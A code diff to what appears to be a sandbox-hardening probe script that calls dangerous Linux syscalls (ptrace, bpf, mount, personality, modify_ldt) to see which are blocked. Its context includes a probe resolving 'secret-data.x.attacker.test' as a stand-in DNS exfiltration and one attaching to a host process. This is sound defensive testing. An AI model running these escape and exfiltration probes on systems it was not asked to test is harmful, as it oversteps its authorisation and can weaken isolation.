@@ -12,10 +12,10 @@ ARCH = platform.machine()
 NR = {
   'x86_64': {'keyctl': 250, 'bpf': 321, 'perf_event_open': 298, 'io_uring_setup': 425, 'userfaultfd': 323,
              'init_module': 175, 'kexec_load': 246, 'open_by_handle_at': 304, 'process_vm_readv': 310, 'add_key': 248,
-             'name_to_handle_at': 303},
+             'name_to_handle_at': 303, 'personality': 135, 'modify_ldt': 154},
   'aarch64': {'keyctl': 219, 'bpf': 280, 'perf_event_open': 241, 'io_uring_setup': 425, 'userfaultfd': 282,
               'init_module': 105, 'kexec_load': 104, 'open_by_handle_at': 265, 'process_vm_readv': 270, 'add_key': 217,
-              'name_to_handle_at': 264},
+              'name_to_handle_at': 264, 'personality': 92},
 }[ARCH]
 
 def err(e=None):
@@ -97,6 +97,25 @@ def name_to_handle_at(path):
     r = libc.syscall(NR['name_to_handle_at'], ctypes.c_long(-100), path.encode(), handle, ctypes.byref(mount_id), ctypes.c_long(0))
     return 'ok:handle' if r >= 0 else err()
 
+def personality(persona):
+    # Sets the persona and puts the old one back, so later probes (and their children) run as before.
+    r = libc.syscall(NR['personality'], ctypes.c_ulong(persona))
+    if r < 0:
+        return err()
+    libc.syscall(NR['personality'], ctypes.c_ulong(r))
+    return 'ok:set'
+
+def persona_query():
+    r = libc.syscall(NR['personality'], ctypes.c_ulong(0xffffffff))
+    return 'ok:' + hex(r) if r >= 0 else err()
+
+def modify_ldt():
+    if 'modify_ldt' not in NR:
+        return 'err:ENOSYS'  # x86 only: the architecture has no such call
+    buf = ctypes.create_string_buffer(16)
+    r = libc.syscall(NR['modify_ldt'], ctypes.c_long(0), buf, ctypes.c_long(16))
+    return 'ok:' + str(r) if r >= 0 else err()
+
 def mount_tmpfs():
     os.makedirs('/tmp/m', exist_ok=True)
     r = libc.mount(b'none', b'/tmp/m', b'tmpfs', ctypes.c_ulong(0), None)
@@ -161,6 +180,10 @@ probes = {
   'dns_exfil': lambda: resolve('secret-data.x.attacker.test'),
   'ptrace_traceme': ptrace_traceme,
   'ptrace_host': lambda: ptrace_attach(host_pid),
+  'personality_no_aslr': lambda: personality(0x0040000),
+  'personality_read_exec': lambda: personality(0x0400000),
+  'personality_query': persona_query,
+  'modify_ldt': modify_ldt,
   'mount': mount_tmpfs,
   'chroot': chroot,
   'unshare_user': lambda: unshare(0x10000000),
